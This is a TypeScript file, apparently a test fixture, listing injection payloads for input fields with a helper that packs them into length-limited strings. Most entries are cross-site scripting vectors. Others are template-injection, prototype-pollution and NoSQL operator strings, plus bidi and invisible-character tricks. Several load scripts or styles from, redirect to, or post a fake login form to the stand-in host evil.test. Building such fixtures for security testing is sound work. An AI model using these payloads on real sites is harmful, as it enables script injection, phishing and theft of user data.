/**
 * Attack strings for fields: every kind from the usual lists, in our own words. A string that is executed
 * calls `hacked()`, sends a request to evil.test, opens a dialog, or changes the page around it.
 */
export const payloads = [
  // Scripts: plain, split, reversed, and after closing various contexts.
  '<script>hacked()</script>',
  '<ScRiPt src=//evil.test/a.js></sCrIpT>',
  '<script/x>hacked()</script/x>',
  '</script><script>hacked()</script>',
  '</title><script>hacked()</script>',
  '</textarea><script>hacked()</script>',
  '</style><script>hacked()</script>',
  '"><script>hacked()</script>',
  "'-hacked()-'",
  '";hacked();//',
  '\\";hacked();//',
  '*/hacked();/*',
  '<scr<script>ipt>hacked()</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
  '<template><script>hacked()</script></template>',
  '<![CDATA[<script>hacked()</script>]]>',
  // Elements that act on load, or when touched.
  '<img src=x onerror=hacked()>',
  '<IMG """><IMG SRC=x ONERROR="hacked()">',
  '<img src=x:x onerror\t=\thacked()//',
  '<svg onload=hacked()>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  '<svg><script href="data:text/javascript,hacked()"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked()>',
  '<body onpageshow=hacked()>',
  '<video><source onerror=hacked()></video>',
  '<audio src=x onerror=hacked()>',
  '<details open ontoggle=hacked()>',
  '<input autofocus onfocus=hacked()>',
  '<marquee onstart=hacked()>',
  '<div style="animation:appear 1s" onanimationstart=hacked()>',
  '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=hacked()>',
  '" onmouseover="hacked()" autofocus x="',
  '` onfocus=hacked() autofocus `',
  // Frames, forms, and elements that navigate the page away.
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<iframe src="javascript:parent.hacked()"></iframe>',
  '<object data="data:text/html,<script>hacked()</script>"></object>',
  '<embed src=//evil.test/a.swf>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<form action=//evil.test/><button>Log in again</button></form>',
  // URLs.
  'javascript:hacked()',
  'JaVa\tScRiPt:hacked()',
  'java&#115;cript:hacked()',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==',
  '//evil.test/%2e%2e',
  '/\\evil.test',
  'https://nitya.test@evil.test/',
  // Markdown, templates, entities, comments, styles.
  '[a walk](javascript:hacked()) ![x](//evil.test/x.png)',
  '{{constructor.constructor("hacked()")()}} ${hacked()} #{hacked()} <%= hacked() %>',
  '&lt;script&gt;hacked()&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;',
  '<!--><script>hacked()</script--> <!-- -- > -->',
  '<style>*{display:none}@import"//evil.test/a.css";</style>',
  'color:red;background:url(//evil.test/x);}</style>',
  // Names of object properties, and values of other types.
  '__proto__[polluted]=1&constructor[prototype][polluted]=1',
  '{"__proto__":{"polluted":1},"$ne":null}',
  'constructor toString hasOwnProperty undefined null NaN [object Object]',
  // Characters that reverse, hide or stack the text around them.
  'safe\u202egpj.exe\u202c \u2066\u2067turned\u2069\u2069 \u200fright\u200e left',
  'in\u200bvis\u2060ible \ufeffjoined\u200d \u00adsoft \u{e0041}\u{e0042}tags',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(6)}algo ﷽ 𒐫 \uffff end`,
] as const

/** Joins all payloads into as few texts of at most the given length as possible. */
export function packed(most: number): string[] {
  const packs = ['']
  for (const payload of payloads) {
    const longer = [packs.at(-1)!, payload].filter(Boolean).join(' ¦ ')
    if (longer.length <= most) packs[packs.length - 1] = longer
    else packs.push(payload)
  }
  return packs
}
